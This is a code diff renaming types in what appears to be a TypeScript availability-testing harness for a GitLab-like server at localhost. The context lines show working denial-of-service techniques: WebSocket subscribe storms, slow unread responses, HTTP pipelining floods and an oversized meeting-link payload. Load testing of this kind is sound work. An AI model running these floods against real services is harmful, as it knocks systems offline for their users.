@@ -5,26 +5,26 @@
 import { setTimeout as sleep } from "node:timers/promises";
 import { WebSocket } from "ws";
 import { ISSUE_DESCRIPTION_MAX } from "@cairn/contract/issues/issues";
-import type { Connection } from "./connection.ts";
-import type { Target } from "./target.ts";
+import type { AttackerConnection } from "./connection.ts";
+import type { AttackTarget } from "./target.ts";
 
-export interface Attack {
+export interface AvailabilityAttack {
   name: string;
   /** Runs once, before the attacker opens its connections. */
-  once?(target: Target): Promise<unknown>;
+  once?(target: AttackTarget): Promise<unknown>;
   /**
    * Every connection calls this in a loop until the attack ends. `round` is the number of the
    * iteration.
    */
-  repeat(connection: Connection, target: Target, round: number): Promise<number>;
+  repeat(connection: AttackerConnection, target: AttackTarget, round: number): Promise<number>;
 }
 
-const issuesApi = ({ project }: Target) => `/api/v4/projects/${project.id}/issues`;
-const pageOf = ({ project }: Target, iid: number) => `/${project.path}/-/issues/${iid}`;
+const issuesApi = ({ project }: AttackTarget) => `/api/v4/projects/${project.id}/issues`;
+const pageOf = ({ project }: AttackTarget, iid: number) => `/${project.path}/-/issues/${iid}`;
 
 function writing(
-  connection: Connection,
-  { attacker }: Target,
+  connection: AttackerConnection,
+  { attacker }: AttackTarget,
   method: string,
   path: string,
   body: object,
@@ -37,7 +37,7 @@ function writing(
  * would then have no effect.
  */
 async function write(
-  { url, attacker }: Target,
+  { url, attacker }: AttackTarget,
   method: string,
   path: string,
   body: object,
@@ -48,7 +48,7 @@ async function write(
   return (await answer.json()) as { id: string };
 }
 
-export const ATTACKS: readonly Attack[] = [
+export const AVAILABILITY_ATTACKS: readonly AvailabilityAttack[] = [
   {
     name: "C1 a meeting link of 40,000 question marks, opened again and again",
     once: (target) =>
@@ -186,7 +186,7 @@ const TEN_MEGABYTES = Buffer.concat([
  * Opens a WebSocket and sends as many subscribe commands as one socket is allowed. The next
  * iteration uses a new socket.
  */
-async function stormCable(_: Connection, target: Target): Promise<number> {
+async function stormCable(_: AttackerConnection, target: AttackTarget): Promise<number> {
   const socket = new WebSocket(
     `${target.url.replace("http", "ws")}/-/cable`,
     ["actioncable-v1-json"],
@@ -218,7 +218,7 @@ async function stormCable(_: Connection, target: Target): Promise<number> {
  * Requests a large response and never reads it. Keeps the sockets open until the server closes
  * them.
  */
-async function askWithoutReading(connection: Connection): Promise<number> {
+async function askWithoutReading(connection: AttackerConnection): Promise<number> {
   const sockets = Array.from({ length: 3 }, () => connection.socket().pause());
   for (const socket of sockets) {
     socket.write("GET /api/v4/openapi.json HTTP/1.1\r\nHost: localhost:3000\r\n\r\n");
@@ -227,7 +227,7 @@ async function askWithoutReading(connection: Connection): Promise<number> {
   return 0;
 }
 
-async function pipeline(connection: Connection): Promise<number> {
+async function pipeline(connection: AttackerConnection): Promise<number> {
   const socket = connection.socket();
   socket.pause();
   socket.write("GET /api/v4/openapi.json HTTP/1.1\r\nHost: localhost:3000\r\n\r\n".repeat(100));
